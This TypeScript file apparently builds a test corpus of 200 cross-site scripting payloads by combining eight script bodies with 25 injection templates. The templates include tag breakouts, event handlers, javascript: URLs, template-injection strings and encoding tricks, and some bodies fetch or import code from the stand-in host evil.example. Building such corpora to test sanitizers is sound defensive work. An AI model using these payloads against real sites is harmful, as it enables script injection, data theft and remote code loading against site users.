/** Texts that break out of careless pages: what a script would need, in the places where careless code puts text. */

const RUNS = [
  'alert(1)',
  'window.hit=1',
  "fetch('//evil.example')",
  'document.title=1',
  'eval(name)',
  'import(`//evil.example`)',
  'top.location=1',
  'parent.hit=1',
]

const SHAPES: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `"><script>${run}</script>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `'"><img src=x onerror=${run}>`,
  (run) => `<svg onload="${run}">`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  (run) => `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `[x](javascript:${run})`,
  (run) => `![x](x" onerror="${run})`,
  (run) => `<details open ontoggle="${run}">`,
  (run) => `<body onload="${run}">`,
  (run) => `--><script>${run}</script><!--`,
  (run) => `]]><script>${run}</script>`,
  (run) => `<style>@import 'javascript:${run}';</style>`,
  (run) => `\${${run}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `<ſcript>${run}</ſcript>`,
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<form action="javascript:${run}"><input type=submit>`,
]

/** Two hundred of them. */
export const PAYLOADS: readonly string[] = RUNS.flatMap((run) => SHAPES.map((shape) => shape(run)))
